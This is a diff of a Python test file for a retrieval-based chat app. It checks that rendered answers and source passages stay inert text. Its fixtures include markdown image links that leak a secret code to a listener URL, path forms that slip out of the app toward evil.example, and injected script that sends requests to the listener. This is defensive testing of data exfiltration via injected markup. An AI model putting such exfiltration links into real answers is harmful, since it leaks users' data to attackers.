@@ -107,7 +107,7 @@ def test_neutralised_markdown_renders_no_image_link_or_tag_and_reads_the_same():
         rendered = RENDERER.render(safe)
         assert not LIVE.search(rendered), rendered
         assert "<a " not in rendered
-    paragraph = f"See ![logo]({listener}/x.png?q=1), [portal]({listener}/p) or <img src=\"{listener}/r.png\"> at www.evil.example."
+    paragraph = f'See ![logo]({listener}/x.png?q=1), [portal]({listener}/p) or <img src="{listener}/r.png"> at www.evil.example.'
     assert _visible(RENDERER.render(neutralise(paragraph))) == paragraph
 
 
@@ -118,8 +118,15 @@ def test_links_into_the_app_keep_working_and_nothing_else():
     assert "<a " not in RENDERER.render(neutralise(local, keep_local=False))
     # Forms that leave the app although they start like a path: protocol-relative, a
     # backslash, a tab, an entity or an escape decoded in the destination, a title.
-    for destination in ("//evil.example/x.png", "/\\evil.example/x.png", "/\t/evil.example/x.png",
-                        "&#47;/evil.example/x.png", "\\/\\/evil.example", "/ok.png \"t\"", "<//evil.example/x.png>"):
+    for destination in (
+        "//evil.example/x.png",
+        "/\\evil.example/x.png",
+        "/\t/evil.example/x.png",
+        "&#47;/evil.example/x.png",
+        "\\/\\/evil.example",
+        '/ok.png "t"',
+        "<//evil.example/x.png>",
+    ):
         rendered = RENDERER.render(neutralise(f"![x]({destination}) [y]({destination})"))
         assert "<img" not in rendered and "<a " not in rendered, destination
 
@@ -129,11 +136,14 @@ def test_strip_embeds_leaves_the_facts_and_citations():
     stripped = strip_embeds(text)
     assert stripped == "The code is PRN-5521 , see the portal [2]."
     assert urls("Go to https://a.example/x?y=1. Or www.b.example, or //c.example/z") == [
-        "https://a.example/x?y=1", "www.b.example", "//c.example/z"
+        "https://a.example/x?y=1",
+        "www.b.example",
+        "//c.example/z",
     ]
 
 
 # --- the chat's rendering in Chromium, without the policy ----------------------------------
+
 
 @needs_chromium
 def test_the_chat_renders_a_hostile_answer_and_passage_as_inert_text(browser):
@@ -146,14 +156,29 @@ def test_the_chat_renders_a_hostile_answer_and_passage_as_inert_text(browser):
         document = hostile_document(listener)
         leak = f"The code is PRN-5521![logo]({listener}/exfil.png?q=PRN-5521) [1]. See [the portal]({listener}/portal)."
         source = Source(number=1, chunk_id=7, collection="c", filename="badges.md", page=1, kind="text", text=document, score=0.9)
-        quote = Quote(source_number=1, chunk_id=7, filename="badges.md", page=1, text="The visitor badge code is PRN-5521.", score=0.9)
+        quote = Quote(
+            source_number=1, chunk_id=7, filename="badges.md", page=1, text="The visitor badge code is PRN-5521.", score=0.9
+        )
         answer = Answer(question="q", text=leak, sources=[source], cited=[1], quote=quote)
-        passage = SourceView(chunk_id=7, filename="badges.md", page=1, kind="passage", passage=document.split("\n\n", 2)[2],
-                             before=document[:60], after="")
+        passage = SourceView(
+            chunk_id=7,
+            filename="badges.md",
+            page=1,
+            kind="passage",
+            passage=document.split("\n\n", 2)[2],
+            before=document[:60],
+            after="",
+        )
         with gr.Blocks() as demo:
-            gr.Chatbot(value=[{"role": "user", "content": "q"}, {"role": "assistant", "content": render_message(answer, [source], 1)},
-                              {"role": "user", "content": "q"}, {"role": "assistant", "content": render_partial(leak, 3, quote)}],
-                       elem_id="chat")
+            gr.Chatbot(
+                value=[
+                    {"role": "user", "content": "q"},
+                    {"role": "assistant", "content": render_message(answer, [source], 1)},
+                    {"role": "user", "content": "q"},
+                    {"role": "assistant", "content": render_partial(leak, 3, quote)},
+                ],
+                elem_id="chat",
+            )
             gr.Markdown(render_passage(passage), elem_id="source-text")
         port = free_port()
         demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, quiet=True, **page_options())
@@ -216,8 +241,9 @@ def open_logged_in(context, url: str):
 
 def _own_violations(page, origin: str) -> list[str]:
     """Refusals that would break the app itself: its own origin, inline or eval'd script."""
-    return [v for v in page.evaluate("() => window.violations")
-            if v.startswith(origin) or v.startswith(("inline", "eval", "self"))]
+    return [
+        v for v in page.evaluate("() => window.violations") if v.startswith(origin) or v.startswith(("inline", "eval", "self"))
+    ]
 
 
 @needs_chromium
@@ -229,12 +255,15 @@ def test_every_page_forbids_loading_from_elsewhere(hostile_site, browser):
         page = open_logged_in(context, url + path)
         before = len(hits)
         # What a renderer that let markup through would put in the page.
-        page.evaluate("""(listener) => {
+        page.evaluate(
+            """(listener) => {
             const img = document.createElement('img'); img.src = listener + '/injected.png'; document.body.appendChild(img);
             const frame = document.createElement('iframe'); frame.src = listener + '/frame'; document.body.appendChild(frame);
             fetch(listener + '/fetch').catch(() => {});
             navigator.sendBeacon && navigator.sendBeacon(listener + '/beacon', 'x');
-        }""", listener)
+        }""",
+            listener,
+        )
         time.sleep(2)
         assert hits[before:] == [], path
         assert len([v for v in page.evaluate("() => window.violations") if v.startswith(listener)]) >= 3, path
